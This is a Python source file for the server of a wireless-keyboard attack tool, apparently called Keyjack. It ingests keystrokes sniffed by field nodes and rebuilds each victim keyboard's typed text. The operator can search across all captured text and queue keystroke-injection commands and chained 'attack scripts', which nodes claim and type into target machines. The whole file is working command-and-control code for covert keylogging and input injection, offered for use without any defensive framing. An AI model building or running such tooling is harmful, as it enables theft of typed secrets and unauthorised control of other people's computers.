"""Self-hosted capture server.

Ingests keystroke reports from field nodes over a line-oriented wire
protocol, keeps an append-only record log plus an in-memory index rebuilt
by replay on startup, and exposes the operator API the console's four
tabs (search, capture, injection, scripts) are built on.  Ingestion is
idempotent: a record is identified by (node, keyboard, time, key code), so
retried batches change nothing.
"""
from __future__ import annotations

import base64
import json
import logging
import re
import threading
import time
from dataclasses import dataclass, field, replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Callable
from urllib.parse import parse_qs, urlparse

from . import ms_protocol as ms

log = logging.getLogger(__name__)

WIRE_VERSION = "v1"
COMMAND_TIMEOUT_US = 60_000_000
SEARCH_CONTEXT_CHARS = 16      # context kept on each side of a match
_MAC_RE = re.compile(r"^[0-9a-fA-F]{10}$")
_NODE_ID_RE = re.compile(r"^[A-Za-z0-9-]{1,32}$")
_SCRIPT_NAME_RE = re.compile(r"^[A-Za-z0-9_-]{1,64}$")


def wall_clock_us() -> int:
    return time.time_ns() // 1000


@dataclass(frozen=True)
class StoredRecord:
    node_id: str
    mac: bytes
    channel: int
    t: int
    packet_type: int
    hid_code: int
    modifiers: int
    recv_t: int
    char: str | None

    @property
    def is_keystroke(self) -> bool:
        return self.packet_type == ms.PACKET_TYPE_KEYSTROKE

    def wire_line(self) -> str:
        return "|".join([
            WIRE_VERSION, self.node_id, self.mac.hex(), str(self.channel),
            str(self.t), f"{self.packet_type:02x}", f"{self.hid_code:02x}",
            f"{self.modifiers:02x}",
        ])


@dataclass
class RegistryEntry:
    mac: bytes
    first_seen: int
    last_seen: int
    channels: set[int] = field(default_factory=set)
    node_ids: set[str] = field(default_factory=set)
    record_count: int = 0


@dataclass
class InjectionCommand:
    command_id: int
    mac: bytes
    text: str
    created_at: int
    status: str = "pending"            # pending | running | done | failed
    reason: str | None = None
    node_id: str | None = None
    finished_at: int | None = None
    after_id: int | None = None        # script chaining: claimable once that
    delay_us: int = 0                  # command is done plus this delay


@dataclass(frozen=True)
class ScriptStep:
    delay_us: int
    text: str


@dataclass(frozen=True)
class AttackScript:
    name: str
    steps: tuple[ScriptStep, ...]

    def __post_init__(self) -> None:
        if not self.steps:
            raise ValueError("script needs at least one step")
        if not _SCRIPT_NAME_RE.match(self.name):
            raise ValueError(f"bad script name: {self.name!r}")


@dataclass
class NodeInfo:
    node_id: str
    location: str
    lat: float | None = None
    lon: float | None = None
    registered_at: int = 0
    last_report_at: int = 0


@dataclass(frozen=True)
class IngestAck:
    accepted: int
    deduplicated: int
    rejected: tuple[tuple[int, str], ...] = ()

    def to_text(self) -> str:
        lines = [f"accepted={self.accepted} dedup={self.deduplicated}"]
        lines.extend(f"rejected line={n} reason={reason}" for n, reason in self.rejected)
        return "\n".join(lines)


def parse_record_line(line: str) -> StoredRecord:
    """Parse one `v1|node|mac|ch|t|ptype|hid|mods` wire line (no recv time)."""
    parts = line.split("|")
    if len(parts) != 8:
        raise ValueError(f"expected 8 fields, got {len(parts)}")
    version, node_id, mac_hex, channel, t, ptype, hid, mods = parts
    if version != WIRE_VERSION:
        raise ValueError(f"unsupported version {version!r}")
    if not _NODE_ID_RE.match(node_id):
        raise ValueError(f"bad node id {node_id!r}")
    if not _MAC_RE.match(mac_hex):
        raise ValueError(f"bad mac {mac_hex!r}")
    try:
        channel_n = int(channel)
        t_n = int(t)
        ptype_n = int(ptype, 16)
        hid_n = int(hid, 16)
        mods_n = int(mods, 16)
    except ValueError:
        raise ValueError("non-numeric field") from None
    if ptype_n not in (ms.PACKET_TYPE_KEYSTROKE, ms.PACKET_TYPE_IDLE):
        raise ValueError(f"bad packet type 0x{ptype_n:02x}")
    if not (0 <= hid_n <= 0xFF and 0 <= mods_n <= 0xFF and 0 <= channel_n <= 83 and t_n >= 0):
        raise ValueError("field out of range")
    char = ms.hid_to_char(hid_n, mods_n) if ptype_n == ms.PACKET_TYPE_KEYSTROKE else None
    return StoredRecord(
        node_id=node_id, mac=bytes.fromhex(mac_hex), channel=channel_n, t=t_n,
        packet_type=ptype_n, hid_code=hid_n, modifiers=mods_n, recv_t=0, char=char,
    )


class CaptureStore:
    """All server state behind one lock; batches are atomic w.r.t. queries."""

    def __init__(self, data_dir: str | Path, clock: Callable[[], int] | None = None):
        self.data_dir = Path(data_dir)
        self.data_dir.mkdir(parents=True, exist_ok=True)
        self.scripts_dir = self.data_dir / "scripts"
        self.scripts_dir.mkdir(exist_ok=True)
        self.log_path = self.data_dir / "records.log"
        self.clock = clock or wall_clock_us
        self._lock = threading.RLock()
        self._records: dict[bytes, list[StoredRecord]] = {}
        self._dedup: set[tuple[str, bytes, int, int]] = set()
        self._registry: dict[bytes, RegistryEntry] = {}
        self._commands: dict[int, InjectionCommand] = {}
        self._next_command_id = 1
        self._nodes: dict[str, NodeInfo] = {}
        self._replay_log()
        self._log_file = open(self.log_path, "a", encoding="ascii")

    # -- persistence --------------------------------------------------------

    def _replay_log(self) -> None:
        if not self.log_path.exists():
            return
        replayed = 0
        with open(self.log_path, encoding="ascii") as fh:
            for line in fh:
                line = line.rstrip("\n")
                if not line:
                    continue
                wire, _, recv = line.rpartition("|")
                record = parse_record_line(wire)
                self._apply_record(record, recv_t=int(recv))
                replayed += 1
        log.info("replayed %d records from %s", replayed, self.log_path)

    def _apply_record(self, record: StoredRecord, recv_t: int) -> bool:
        """Index one record; returns False when the dedup key already exists."""
        key = (record.node_id, record.mac, record.t, record.hid_code)
        if key in self._dedup:
            return False
        self._dedup.add(key)
        stored = replace(record, recv_t=recv_t)
        self._records.setdefault(record.mac, []).append(stored)
        entry = self._registry.get(record.mac)
        if entry is None:
            entry = RegistryEntry(mac=record.mac, first_seen=record.t, last_seen=record.t)
            self._registry[record.mac] = entry
        entry.first_seen = min(entry.first_seen, record.t)
        entry.last_seen = max(entry.last_seen, record.t)
        entry.channels.add(record.channel)
        entry.node_ids.add(record.node_id)
        entry.record_count += 1
        return True

    # -- node wire ----------------------------------------------------------

    def ingest(self, body: str) -> IngestAck:
        accepted = 0
        deduplicated = 0
        rejected: list[tuple[int, str]] = []
        now = self.clock()
        with self._lock:
            for lineno, line in enumerate(body.splitlines(), start=1):
                if not line.strip():
                    continue
                try:
                    record = parse_record_line(line)
                except ValueError as exc:
                    rejected.append((lineno, str(exc)))
                    continue
                if self._apply_record(record, recv_t=now):
                    accepted += 1
                    self._log_file.write(f"{record.wire_line()}|{now}\n")
                else:
                    deduplicated += 1
                node = self._nodes.get(record.node_id)
                if node is not None:
                    node.last_report_at = now
            self._log_file.flush()
        return IngestAck(accepted, deduplicated, tuple(rejected))

    def register_node(self, node_id: str, location: str,
                      lat: float | None = None, lon: float | None = None) -> None:
        if not _NODE_ID_RE.match(node_id):
            raise ValueError(f"bad node id {node_id!r}")
        with self._lock:
            now = self.clock()
            info = self._nodes.get(node_id)
            if info is None:
                self._nodes[node_id] = NodeInfo(node_id, location, lat, lon,
                                                registered_at=now, last_report_at=now)
            else:
                info.location = location
                info.lat = lat
                info.lon = lon

    def claim_commands(self, node_id: str, mac_hex: str) -> list[InjectionCommand]:
        """Hand every ready pending command for `mac_hex` to this node.

        Claiming is first-come-first-served and atomic: a claimed command
        moves to running with the node recorded, so no second node can
        execute it.
        """
        mac = _parse_mac(mac_hex)
        claimed: list[InjectionCommand] = []
        with self._lock:
            now = self.clock()
            self._expire_commands(now)
            for cmd in sorted(self._commands.values(), key=lambda c: c.command_id):
                if cmd.status != "pending" or cmd.mac != mac:
                    continue
                if not self._command_ready(cmd, now):
                    continue
                cmd.status = "running"
                cmd.node_id = node_id
                claimed.append(cmd)
        return claimed

    def _command_ready(self, cmd: InjectionCommand, now: int) -> bool:
        if cmd.after_id is None:
            return now >= cmd.created_at + cmd.delay_us
        predecessor = self._commands.get(cmd.after_id)
        if predecessor is None or predecessor.status != "done":
            return False
        assert predecessor.finished_at is not None
        return now >= predecessor.finished_at + cmd.delay_us

    def _expire_commands(self, now: int) -> None:
        for cmd in self._commands.values():
            if cmd.status != "pending":
                continue
            predecessor = self._commands.get(cmd.after_id) if cmd.after_id else None
            if predecessor is not None and predecessor.status == "failed":
                cmd.status = "failed"
                cmd.reason = "predecessor-failed"
                cmd.finished_at = now
            elif now - cmd.created_at >= COMMAND_TIMEOUT_US:
                cmd.status = "failed"
                cmd.reason = "no-node"
                cmd.finished_at = now

    def set_command_status(self, command_id: int, status: str,
                           reason: str | None = None) -> InjectionCommand:
        with self._lock:
            cmd = self._commands.get(command_id)
            if cmd is None:
                raise KeyError(f"unknown command {command_id}")
            if status not in ("running", "done", "failed"):
                raise ValueError(f"bad status {status!r}")
            if cmd.status not in ("pending", "running"):
                raise ValueError(f"command {command_id} already {cmd.status}")
            cmd.status = status
            cmd.reason = reason
            if status in ("done", "failed"):
                cmd.finished_at = self.clock()
            return cmd

    # -- operator API -------------------------------------------------------

    def keyboards(self) -> list[dict]:
        with self._lock:
            return [
                {
                    "mac": entry.mac.hex().upper(),
                    "first_seen": entry.first_seen,
                    "last_seen": entry.last_seen,
                    "channels": sorted(entry.channels),
                    "nodes": sorted(entry.node_ids),
                    "records": entry.record_count,
                }
                for entry in sorted(self._registry.values(), key=lambda e: -e.last_seen)
            ]

    def captures(self, mac_hex: str, t_from: int | None = None,
                 t_to: int | None = None) -> dict | None:
        """Time-ordered records for one keyboard, or None if never seen."""
        mac = _parse_mac(mac_hex)
        with self._lock:
            if mac not in self._registry:
                return None
            if t_from is not None and t_to is not None and t_from > t_to:
                raise ValueError("from must not exceed to")
            rows = sorted(self._records.get(mac, ()), key=lambda r: (r.t, r.recv_t))
            selected = [
                r for r in rows
                if (t_from is None or r.t >= t_from) and (t_to is None or r.t <= t_to)
            ]
            return {
                "mac": mac.hex().upper(),
                "records": [_record_json(r) for r in selected],
                "text": "".join(r.char for r in selected if r.is_keystroke and r.char),
            }

    def search(self, pattern: str) -> list[dict]:
        """Literal substring search over every keyboard's reconstructed text."""
        if not pattern:
            raise ValueError("empty search pattern")
        matches: list[dict] = []
        with self._lock:
            for mac in sorted(self._registry):
                rows = sorted(self._records.get(mac, ()), key=lambda r: (r.t, r.recv_t))
                chars: list[str] = []
                times: list[int] = []
                for r in rows:
                    if r.is_keystroke and r.char:
                        chars.append(r.char)
                        times.append(r.t)
                text = "".join(chars)
                start = text.find(pattern)
                while start != -1:
                    lo = max(0, start - SEARCH_CONTEXT_CHARS)
                    hi = min(len(text), start + len(pattern) + SEARCH_CONTEXT_CHARS)
                    matches.append({
                        "mac": mac.hex().upper(),
                        "t": times[start],
                        "context": text[lo:hi],
                    })
                    start = text.find(pattern, start + 1)
        return matches

    def enqueue_injection(self, mac_hex: str, text: str, after_id: int | None = None,
                          delay_us: int = 0) -> InjectionCommand:
        mac = _parse_mac(mac_hex)
        if not text:
            raise ValueError("empty injection text")
        with self._lock:
            if mac not in self._registry:
                raise KeyError(f"keyboard {mac_hex} not in registry")
            cmd = InjectionCommand(
                command_id=self._next_command_id, mac=mac, text=text,
                created_at=self.clock(), after_id=after_id, delay_us=delay_us,
            )
            self._next_command_id += 1
            self._commands[cmd.command_id] = cmd
            return cmd

    def command(self, command_id: int) -> InjectionCommand | None:
        with self._lock:
            self._expire_commands(self.clock())
            return self._commands.get(command_id)

    def commands_for(self, mac_hex: str) -> list[InjectionCommand]:
        mac = _parse_mac(mac_hex)
        with self._lock:
            self._expire_commands(self.clock())
            return sorted((c for c in self._commands.values() if c.mac == mac),
                          key=lambda c: c.command_id)

    def save_script(self, script: AttackScript) -> None:
        path = self.scripts_dir / f"{script.name}.script"
        body = "".join(f"{step.delay_us}|{step.text}\n" for step in script.steps)
        with self._lock:
            path.write_text(body, encoding="utf-8")

    def load_script(self, name: str) -> AttackScript | None:
        if not _SCRIPT_NAME_RE.match(name):
            raise ValueError(f"bad script name: {name!r}")
        path = self.scripts_dir / f"{name}.script"
        if not path.exists():
            return None
        steps = []
        for line in path.read_text(encoding="utf-8").splitlines():
            if not line.strip():
                continue
            delay, _, text = line.partition("|")
            steps.append(ScriptStep(delay_us=int(delay), text=text))
        return AttackScript(name=name, steps=tuple(steps))

    def scripts(self) -> list[AttackScript]:
        names = sorted(p.stem for p in self.scripts_dir.glob("*.script"))
        out = []
        for name in names:
            script = self.load_script(name)
            if script is not None:
                out.append(script)
        return out

    def run_script(self, mac_hex: str, name: str) -> list[InjectionCommand]:
        """Expand a script into one chained injection command per step."""
        script = self.load_script(name)
        if script is None:
            raise KeyError(f"unknown script {name!r}")
        with self._lock:
            commands: list[InjectionCommand] = []
            previous: InjectionCommand | None = None
            for step in script.steps:
                cmd = self.enqueue_injection(
                    mac_hex, step.text,
                    after_id=previous.command_id if previous else None,
                    delay_us=step.delay_us,
                )
                commands.append(cmd)
                previous = cmd
            return commands

    def nodes(self) -> list[dict]:
        with self._lock:
            return [
                {
                    "node_id": n.node_id,
                    "location": n.location,
                    "lat": n.lat,
                    "lon": n.lon,
                    "registered_at": n.registered_at,
                    "last_report_at": n.last_report_at,
                }
                for n in sorted(self._nodes.values(), key=lambda n: n.node_id)
            ]

    def close(self) -> None:
        with self._lock:
            self._log_file.close()


def _parse_mac(mac_hex: str) -> bytes:
    if not _MAC_RE.match(mac_hex):
        raise ValueError(f"bad mac {mac_hex!r}")
    return bytes.fromhex(mac_hex)


def _record_json(r: StoredRecord) -> dict:
    return {
        "node_id": r.node_id,
        "channel": r.channel,
        "t": r.t,
        "packet_type": f"{r.packet_type:02x}",
        "hid": f"{r.hid_code:02x}",
        "modifiers": f"{r.modifiers:02x}",
        "char": r.char,
        "recv_t": r.recv_t,
    }


def command_json(cmd: InjectionCommand) -> dict:
    return {
        "command_id": cmd.command_id,
        "mac": cmd.mac.hex().upper(),
        "text": cmd.text,
        "status": cmd.status,
        "reason": cmd.reason,
        "node_id": cmd.node_id,
        "created_at": cmd.created_at,
        "finished_at": cmd.finished_at,
    }


# ---------------------------------------------------------------------------
# HTTP layer


class ApiHandler(BaseHTTPRequestHandler):
    server: "KeyjackHttpServer"

    protocol_version = "HTTP/1.1"

    def log_message(self, fmt: str, *args) -> None:
        log.debug("http: " + fmt, *args)

    @property
    def store(self) -> CaptureStore:
        return self.server.store

    def _send(self, code: int, body: bytes, content_type: str) -> None:
        self.send_response(code)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _json(self, payload, code: int = 200) -> None:
        self._send(code, json.dumps(payload).encode(), "application/json")

    def _text(self, body: str, code: int = 200) -> None:
        self._send(code, body.encode(), "text/plain; charset=utf-8")

    def _body(self) -> str:
        length = int(self.headers.get("Content-Length", "0"))
        return self.rfile.read(length).decode("utf-8")

    def do_GET(self) -> None:  # noqa: N802 (http.server naming)
        url = urlparse(self.path)
        query = {k: v[0] for k, v in parse_qs(url.query).items()}
        try:
            self._route_get(url.path, query)
        except ValueError as exc:
            self._json({"error": str(exc)}, code=400)
        except Exception:  # pragma: no cover - last-resort guard
            log.exception("GET %s failed", self.path)
            self._json({"error": "internal"}, code=500)

    def do_POST(self) -> None:  # noqa: N802
        url = urlparse(self.path)
        try:
            self._route_post(url.path, self._body())
        except ValueError as exc:
            self._json({"error": str(exc)}, code=400)
        except KeyError as exc:
            self._json({"error": str(exc).strip("'")}, code=404)
        except Exception:  # pragma: no cover
            log.exception("POST %s failed", self.path)
            self._json({"error": "internal"}, code=500)

    def _route_get(self, path: str, query: dict[str, str]) -> None:
        store = self.store
        if path == "/api/keyboards":
            self._json(store.keyboards())
        elif m := re.fullmatch(r"/api/keyboards/([0-9a-fA-F]{10})/captures", path):
            t_from = int(query["from"]) if "from" in query else None
            t_to = int(query["to"]) if "to" in query else None
            result = store.captures(m.group(1).lower(), t_from, t_to)
            if result is None:
                self._json({"error": "unknown-mac"}, code=404)
            else:
                self._json(result)
        elif m := re.fullmatch(r"/api/keyboards/([0-9a-fA-F]{10})/commands", path):
            self._json([command_json(c) for c in store.commands_for(m.group(1).lower())])
        elif path == "/api/search":
            self._json({"matches": store.search(query.get("q", ""))})
        elif path == "/api/scripts":
            self._json([
                {"name": s.name,
                 "steps": [{"delay_us": st.delay_us, "text": st.text} for st in s.steps]}
                for s in store.scripts()
            ])
        elif path == "/api/nodes":
            self._json(store.nodes())
        elif path == "/api/commands":
            node_id = query.get("node_id", "")
            mac = query.get("mac", "")
            if not node_id:
                raise ValueError("node_id required")
            commands = store.claim_commands(node_id, mac) if mac else []
            lines = [
                "|".join([
                    WIRE_VERSION, str(c.command_id), c.mac.hex(),
                    base64.b64encode(c.text.encode()).decode(),
                ])
                for c in commands
            ]
            self._text("\n".join(lines))
        elif m := re.fullmatch(r"/api/commands/(\d+)", path):
            cmd = self.store.command(int(m.group(1)))
            if cmd is None:
                self._json({"error": "unknown-command"}, code=404)
            else:
                self._json(command_json(cmd))
        else:
            self._serve_static(path)

    def _route_post(self, path: str, body: str) -> None:
        store = self.store
        if path == "/api/ingest":
            self._text(store.ingest(body).to_text())
        elif m := re.fullmatch(r"/api/commands/(\d+)/status", path):
            status, _, rest = body.strip().partition(" ")
            reason = None
            if rest.startswith("reason="):
                reason = rest[len("reason="):]
            cmd = store.set_command_status(int(m.group(1)), status, reason)
            self._json(command_json(cmd))
        elif m := re.fullmatch(r"/api/keyboards/([0-9a-fA-F]{10})/inject", path):
            payload = json.loads(body)
            cmd = store.enqueue_injection(m.group(1).lower(), payload.get("text", ""))
            self._json({"command_id": cmd.command_id}, code=201)
        elif m := re.fullmatch(r"/api/keyboards/([0-9a-fA-F]{10})/scripts/([A-Za-z0-9_-]+)/run", path):
            commands = store.run_script(m.group(1).lower(), m.group(2))
            self._json({"command_ids": [c.command_id for c in commands]}, code=201)
        elif path == "/api/scripts":
            payload = json.loads(body)
            script = AttackScript(
                name=payload["name"],
                steps=tuple(ScriptStep(int(s["delay_us"]), s["text"])
                            for s in payload["steps"]),
            )
            store.save_script(script)
            self._json({"name": script.name}, code=201)
        elif path == "/api/nodes/register":
            payload = json.loads(body)
            store.register_node(payload["node_id"], payload.get("location", ""),
                                payload.get("lat"), payload.get("lon"))
            self._json({"ok": True})
        else:
            self._json({"error": "not-found"}, code=404)

    def _serve_static(self, path: str) -> None:
        static_dir = self.server.static_dir
        if static_dir is None:
            self._json({"error": "not-found"}, code=404)
            return
        rel = path.lstrip("/") or "index.html"
        target = (static_dir / rel).resolve()
        if not str(target).startswith(str(static_dir.resolve())) or not target.is_file():
            self._json({"error": "not-found"}, code=404)
            return
        content_types = {
            ".html": "text/html; charset=utf-8",
            ".js": "text/javascript",
            ".css": "text/css",
            ".map": "application/json",
        }
        self._send(200, target.read_bytes(),
                   content_types.get(target.suffix, "application/octet-stream"))


class KeyjackHttpServer(ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True

    def __init__(self, address: tuple[str, int], store: CaptureStore,
                 static_dir: Path | None = None):
        super().__init__(address, ApiHandler)
        self.store = store
        self.static_dir = static_dir


def serve(store: CaptureStore, host: str = "127.0.0.1", port: int = 0,
          static_dir: Path | None = None) -> KeyjackHttpServer:
    """Bind the API server; the caller decides how to run serve_forever."""
    return KeyjackHttpServer((host, port), store, static_dir)
